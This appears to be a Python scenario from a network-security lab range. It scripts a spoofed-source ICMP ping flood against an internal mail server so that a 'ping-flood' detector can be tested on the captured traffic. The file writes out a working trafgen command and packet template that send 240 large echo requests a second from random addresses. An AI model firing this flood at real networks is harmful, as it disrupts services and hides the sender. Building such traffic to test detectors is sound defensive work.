"""Large echo requests from random sources, at a victim that does not answer pings."""

from lab.range import Range
from lab.scenario import Scenario

ROUTER_OUTSIDE = "00:25:90:51:00:01"


def run(net: Range) -> None:
    attacker, mail = net.outside("attacker"), net.inside("mail")
    mail.sysctl(net__ipv4__icmp_echo_ignore_all="1")
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 {mail.ip}", 2.0)
    with net.attack(
        "ping-flood",
        by=attacker,
        victims=[mail],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"icmp and dst host {mail.ip}",
    ):
        packet = (
            f"{{ eth(saddr={attacker.mac}, daddr={ROUTER_OUTSIDE}), ipv4(saddr=drnd(), daddr={mail.ip},"
            " ttl=55), icmp4(type=8, code=0, id=drnd(), seq=1), fill(0x42, 1000) }"
        )
        words = "trafgen -o eth0 -n 1800 -t 4ms -P 1"
        net.tool(attacker, *words.split(), packet)
    net.quiet(3)


SCENARIO = Scenario(
    name="ping-flood-held-trafgen",
    about="trafgen sends a silent mail server 240 large echo requests a second from random sources.",
    detectors=("ping-flood",),
    tools={"trafgen": "netsniff-ng"},
    snap_octets=60,
    run=run,
)
